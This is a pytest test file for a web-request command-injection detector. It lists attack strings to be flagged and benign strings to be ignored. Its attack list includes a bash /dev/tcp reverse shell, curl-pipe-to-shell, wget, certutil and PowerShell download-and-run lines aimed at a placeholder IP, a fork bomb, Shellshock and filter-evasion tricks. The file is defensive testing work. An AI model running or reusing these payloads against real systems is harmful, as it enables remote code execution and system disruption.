"""The command-injection detector: shell and Windows syntax in command position, evasions, prose."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.inspect.core import Location, Normalized, Severity
from bastion.inspect.detectors import _shell
from bastion.inspect.detectors.rce import detect_rce

PARAM = Location("query", "host")


def rules(text: str, paranoia: int = 1, location: Location = PARAM) -> set[str]:
    return {match.rule for match in detect_rce(Normalized(text), location, paranoia)}


ATTACKS = [
    ("semicolon-cat", "example.com;cat /etc/passwd"),
    ("pipe-id", "1|id"),
    ("and-whoami", "1 && whoami"),
    ("or-uname", "x || uname -a"),
    ("newline-wget", "a\nwget http://203.0.113.5/x.sh"),
    ("url-encoded", "example.com%3Bcat%20%2Fetc%2Fpasswd"),
    ("double-encoded", "example.com%253Bwhoami"),
    ("plus-space", "127.0.0.1;ping+-c+3+203.0.113.5"),
    ("sleep-blind", "x; sleep 10"),
    ("substitution", "$(whoami)"),
    ("nested-substitution", "echo $(echo $(cat /etc/passwd))"),
    ("backticks", "`id`"),
    ("backtick-ifs", "0.84`echo${IFS}crs``echo${IFS}34`"),
    ("process-substitution", "<(cat file)"),
    ("ifs-braced", "cat${IFS}/etc/passwd"),
    ("ifs-dollar9", ";cat$IFS$9/etc/passwd"),
    ("brace-expansion", "{cat,/etc/passwd}"),
    ("brace-empty-first", "{,ifconfig}"),
    ("brace-in-word", "c{a,oun}t /etc/hosts"),
    ("single-quote-split", "c'a't /etc/passwd"),
    ("double-quote-split", '"w"hoami'),
    ("backslash-split", ";c\\at /etc/passwd"),
    ("empty-var", ";c$@at /et$@c/pas$@swd"),
    ("unset-var-suffix", "uname$u -a"),
    ("default-value", "${x:-cat} /etc/passwd"),
    ("assigned-variable", "a=nc&&$a -nlvp 555"),
    ("split-assignments", "a=/etc&&b=/passwd&&c=cat&&$c $a$b"),
    ("wildcard-command", ";/???/c?t /e??/p????d"),
    ("wildcard-star", "x;/bin/ca* /etc/passwd"),
    ("wildcard-class", "cat /etc/pa[s]swd"),
    ("glob-bin-dir", "/bi[n]/bash"),
    ("dev-tcp", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
    ("dev-tcp-variable", "d=/dev&&(sh)0>$d/tcp/203.0.113.5/777"),
    ("shellshock", "() { :; }; /bin/bash -c 'id'"),
    ("fork-bomb", ":(){ :|:& };:"),
    ("prefix-time", "time sh -c whoami"),
    ("prefix-nohup", "nohup ifconfig"),
    ("quote-breakout", "x'; curl http://203.0.113.5/x | sh"),
    ("php-system-string", "system('echo hi;wget http://203.0.113.5/a -O /tmp/a')"),
    ("powershell-cmdlet", "Invoke-WebRequest http://203.0.113.5/x.ps1"),
    ("powershell-alias", ";iex (iwr http://203.0.113.5/x.ps1)"),
    ("cmd-exe", "& cmd.exe /c dir c:\\"),
    ("certutil", "; certutil -urlcache -f http://203.0.113.5/p.exe p.exe"),
    ("caret-evasion", "|w^h^o^a^m^i"),
    ("batch-for", "for /f %i in ('whoami') do echo %i"),
    ("batch-if-exist", "IF EXIST C:\\pagefile.sys ECHO found"),
    ("batch-if-compare", "&if %n1% gtr %n2% echo bigger"),
    ("interpreter", ";python3 -c 'import os'"),
    ("command-path", "/usr/bin/perl -e 'print 1'"),
    ("alias-definition", "alias ls='ls -al'"),
    ("sqlite-dot", "1;.shell whoami"),
    ("arithmetic", "$[2+2]"),
    ("parameter-trick", "${PATH#{}/}"),
    ("smtp-injection", "x\r\nMAIL FROM:<a@example.org>"),
    ("imap-injection", "x\r\na001 EXAMINE INBOX"),
    ("html-entity", "x&#59;cat /etc/passwd"),
    ("full-width", "\uff1bcat /etc/passwd"),
]


@pytest.mark.parametrize(("text"), [case[1] for case in ATTACKS], ids=[case[0] for case in ATTACKS])
def test_attacks_match_at_paranoia_1(text: str) -> None:
    matches = detect_rce(Normalized(text), PARAM, 1)
    assert matches, text
    assert all(match.category == "rce" and match.rule.startswith("rce-") for match in matches)
    assert any(match.severity == Severity.CRITICAL for match in matches)
    assert all(match.location == PARAM and match.paranoia == 1 for match in matches)


BENIGN = [
    ("tom-and-jerry", "Tom & Jerry"),
    ("semicolon-prose", "a; b"),
    ("pipe-words", "rock|paper"),
    ("dollars", "$5.00"),
    ("price-list", "red;$5 each; blue;$3"),
    ("file-name", "Q3.report.final.v2.pdf"),
    ("prose-command-words", "I like to cat around; time flies when you sort things"),
    ("time-warner", "time warner"),
    ("time-prose", "hello; time he came"),
    ("read-the-faq", "Read the FAQ at https://help.example.com/articles/1234 first"),
    ("find-prose", "Find us at 12 Main St; more info soon"),
    ("brackets", "Some text (in brackets)."),
    ("array-param", "data[index]"),
    ("json-in-query", '{"value":true,"key":"enabled"}'),
    ("markdown-code", "Click `Download invoice` then `Save`"),
    ("template", "Hello ${name}, your order shipped"),
    ("question", "Does the * shine bright?"),
    ("email", "firstname.o'brien@example.com"),
    ("apostrophes", "O'Brien's shop & D'Angelo's cafe"),
    ("user-agent-curl", "curl/7.81.0"),
    (
        "user-agent-browser",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    ),
    ("windows-path", "C:\\Users\\alice\\notes.txt"),
    ("url", "https://example.com/search?q=cat&sort=asc"),
    ("password", "W_&NL&oscNzl.(c==F"),
    ("multiline-text", "Sit street security.\nList several assume.\nGirl popular."),
    ("if-prose", "What happens if not defined by the user?"),
    ("mail-prose", "We received this mail from Mars"),
    ("lone-tool-word", "wget"),
    ("function-call", "myfunction(){ echo hello }"),
]


@pytest.mark.parametrize(("text"), [case[1] for case in BENIGN], ids=[case[0] for case in BENIGN])
def test_benign_text_is_silent_at_paranoia_1(text: str) -> None:
    assert rules(text) == set()


WEAK = [
    ("lone-command-at-start", "whoami", "rce-command-word", 3),
    ("command-word-prose-args", "; cat lovers unite", "rce-command-after-separator", 3),
    ("plain-substitution", "$(document)", "rce-substitution", 3),
    ("jargon-with-args", "ls foo bar", "rce-command-line", 3),
]


@pytest.mark.parametrize(
    ("text", "rule", "level"), [case[1:] for case in WEAK], ids=[case[0] for case in WEAK]
)
def test_weak_signals_need_higher_paranoia(text: str, rule: str, level: int) -> None:
    assert rule not in rules(text, level - 1)
    matches = [m for m in detect_rce(Normalized(text), PARAM, level) if m.rule == rule]
    assert matches
    assert matches[0].paranoia == level
    assert matches[0].severity < Severity.CRITICAL


def test_user_agent_shellshock() -> None:
    header = Location("header", "user-agent")
    assert "rce-shellshock" in rules("() { :; }; echo; /bin/cat /etc/passwd", location=header)


def test_each_rule_reported_once() -> None:
    matches = detect_rce(Normalized(";id;id;id;id"), PARAM, 4)
    names = [match.rule for match in matches]
    assert len(names) == len(set(names))


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300), st.sampled_from([1, 2, 3, 4]))
def test_never_raises_and_is_deterministic(text: str, paranoia: int) -> None:
    first = detect_rce(Normalized(text), PARAM, paranoia)
    second = detect_rce(Normalized(text), PARAM, paranoia)
    assert first == second
    assert all(match.paranoia <= paranoia for match in first)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=";|&$(){}`'\"\\<>*?[]!#=^ \nabc/-", max_size=400))
def test_shell_metacharacter_soup_never_raises(text: str) -> None:
    detect_rce(Normalized(text), PARAM, 4)


@pytest.mark.parametrize(
    "unit",
    ["{a,", "$(", "a;", "'", '"a;b', "${", "/?", "`", "c'a't ", "\\"],
    ids=[
        "braces",
        "substitutions",
        "separators",
        "quotes",
        "quoted-scripts",
        "parameters",
        "wildcards",
        "backticks",
        "split-words",
        "backslashes",
    ],
)
def test_adversarial_64k_input_completes(unit: str) -> None:
    text = (unit * (65536 // len(unit) + 1))[:65536]
    started = time.perf_counter()
    detect_rce(Normalized(text), PARAM, 4)
    elapsed = time.perf_counter() - started
    print(f"rce 64 KiB {unit!r}: {elapsed * 1000:.1f} ms")


def _subscanned(monkeypatch: pytest.MonkeyPatch, text: str) -> tuple[int, int]:
    """(nested scans started, characters they read) while detecting in ``text``."""
    calls = [0, 0]
    original = _shell._scan

    def counting(body: str, depth: int, budget: list[int]) -> _shell.ShellScan:
        if depth:
            calls[0] += 1
            calls[1] += len(body)
        return original(body, depth, budget)

    monkeypatch.setattr(_shell, "_scan", counting)
    detect_rce(Normalized(text), PARAM, 4)
    return calls[0], calls[1]


@pytest.mark.parametrize("unit", ['"a;b', "'a;b", '"`a;b`', "{a,b}", '"$(a;b)"'])
def test_nested_scans_read_at_most_about_the_value_once(
    monkeypatch: pytest.MonkeyPatch, unit: str
) -> None:
    # Every quoted string used to be re-read as a script of its own without limit.
    size = 65536
    text = (unit * (size // len(unit) + 1))[:size]
    _, read = _subscanned(monkeypatch, text)
    assert read <= size + _shell._SUBSCAN_SLACK


def test_nested_scan_work_does_not_grow_faster_than_the_value(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    small = _subscanned(monkeypatch, '"a;b' * 1024)
    large = _subscanned(monkeypatch, '"a;b' * 8192)
    assert large[1] <= 8 * small[1] + _shell._SUBSCAN_SLACK


def test_brace_words_stay_bounded() -> None:
    # "{a,b}{a,b}…" grew every word variant by the whole value: quadratic.
    scan = _shell.scan_shell("{a,b}" * 4000)
    words = [word.text for command in scan.commands for word in command.words]
    assert words
    assert max(len(word) for word in words) <= _shell._MAX_WORD


def test_reading_stops_at_the_command_cap_but_keeps_value_wide_signals() -> None:
    scan = _shell.scan_shell("a;" * 4096 + "cat${ifs}x")
    assert len(scan.commands) == _shell._MAX_COMMANDS
    assert scan.ifs


def test_quoted_script_is_still_read() -> None:
    assert "rce-command-after-separator" in rules('system("x; cat /etc/passwd")')


@pytest.mark.parametrize("text", ["a1b2c3", "550e8400-e29b-41d4-a716-446655440000", "v1.2_3"])
def test_plain_tokens_need_no_shell_reading(monkeypatch: pytest.MonkeyPatch, text: str) -> None:
    def fail(*_: object) -> None:
        raise AssertionError("scanned")

    monkeypatch.setattr("bastion.inspect.detectors.rce.scan_shell", fail)
    assert detect_rce(Normalized(text), PARAM, 2) == []


def test_plain_command_word_still_reported_from_paranoia_3() -> None:
    assert "rce-command-word" in rules("whoami", 3)


@settings(max_examples=1000, deadline=None)
@given(st.text(alphabet="ac?*[]!-^tx", max_size=10), st.text(alphabet="actx[", max_size=8))
def test_glob_units_bound_the_length_of_every_name_a_pattern_matches(
    pattern: str, name: str
) -> None:
    units, star = _shell.glob_units(pattern)
    if _shell.glob_matches(pattern, name):
        assert len(name) == units or (star and len(name) >= units)


@pytest.mark.parametrize(
    ("word", "command"),
    [("/???/c?t", "cat"), ("/bin/ca*", "call"), ("/???/??", "7z"), ("/???/[w]get", "wget"),
     ("/???/wh*mi", "whoami"), ("/usr/bin/n?", "nc"), ("/???/*", "7z"), ("/???/?at", "cat"),
     ("/???/b??e64", "base64")],
)  # fmt: skip
def test_wildcards_resolve_to_the_first_known_name_in_sorted_order(word: str, command: str) -> None:
    from bastion.inspect.detectors.rce import _glob_command

    assert _glob_command(_shell.Word(word, glob=True)) == command


@pytest.mark.parametrize(
    "text",
    ["for %a in (x) do echo", "&for /l %%i in (1,1,9)\tdo x", "for %a in (b)\r\n do c"],
)
def test_batch_loops_pass_the_pre_check(text: str) -> None:
    from bastion.inspect.detectors.rce import _BATCH_FOR, _closes_into_do

    assert _BATCH_FOR.search(text) is not None
    assert _closes_into_do(text)
    assert "rce-windows-for-loop" in {m.rule for m in detect_rce(Normalized(text), PARAM, 1)}


_LOOP_PARTS = st.sampled_from(
    ["for", " ", "%a", "%%i", "in", "(", ")", "x", "do", "\t", "/l", "\n", ";", "&"]
)


@settings(max_examples=1000, deadline=None)
@given(st.lists(_LOOP_PARTS, max_size=12))
def test_batch_loop_pre_check_is_implied_by_every_match(parts: list[str]) -> None:
    from bastion.inspect.detectors.rce import _BATCH_FOR, _closes_into_do

    text = "".join(parts)
    if _BATCH_FOR.search(text) is not None:
        assert _closes_into_do(text)


@settings(max_examples=1500, deadline=None)
@given(
    st.text(alphabet=st.characters(blacklist_characters=";\n\r&|`(){}<>\\'\"$#^?*[="), max_size=80)
)
def test_plain_text_is_read_without_the_lexer_exactly_as_the_lexer_reads_it(text: str) -> None:
    assert _shell.scan_shell(text) == _shell._scan(text, 0, [len(text) + 2048])


@pytest.mark.parametrize("text", ["cat /etc/passwd", "a\tb\x0bc\x0cd", "x" * 300, "w " * 70])
def test_plain_words_are_cut_like_the_lexer_cuts_them(text: str) -> None:
    assert _shell.scan_shell(text) == _shell._scan(text, 0, [len(text) + 2048])


@pytest.mark.parametrize(
    "text",
    ["if exist c:\\x del y", "&if defined x echo", ";if %a%==b echo", "if /i a equ b x",
     "|if not errorlevel 1 x", "(if (1) geq 2 x", "@if cmdextversion 2 x"],
)  # fmt: skip
def test_batch_if_forms_pass_their_pre_check(text: str) -> None:
    from bastion.inspect.detectors.rce import _BATCH_IF, _BATCH_IF_WORDS

    assert _BATCH_IF.search(text) is not None
    assert any(word in text for word in _BATCH_IF_WORDS)
    assert "rce-windows-if" in {m.rule for m in detect_rce(Normalized(text), PARAM, 1)}


@pytest.mark.parametrize(
    ("text", "expected"),
    [('"abc"', "abc"), ("'abc'", "abc"), ('"a\\"b"', 'a"b'), ('"a\\\\b"', "a\\b"),
     ('"a\\xb"', "a\\xb"), ('"' + "x" * 300 + '"', "x" * 256), ("'a'\"b\"c", "abc")],
)  # fmt: skip
def test_quoted_text_is_read_in_runs_as_it_was_character_by_character(
    text: str, expected: str
) -> None:
    scan = _shell.scan_shell(text)
    assert [word.text for command in scan.commands for word in command.words] == [expected]


def test_an_ampersand_after_a_quoted_angle_bracket_joins_the_word() -> None:
    # ``">"&`` reads like the ``>&`` of a redirection: the "&" stays in the word.
    scan = _shell.scan_shell('echo "a>"&x')
    assert [word.text for word in scan.commands[0].words] == ["echo", "a>&x"]
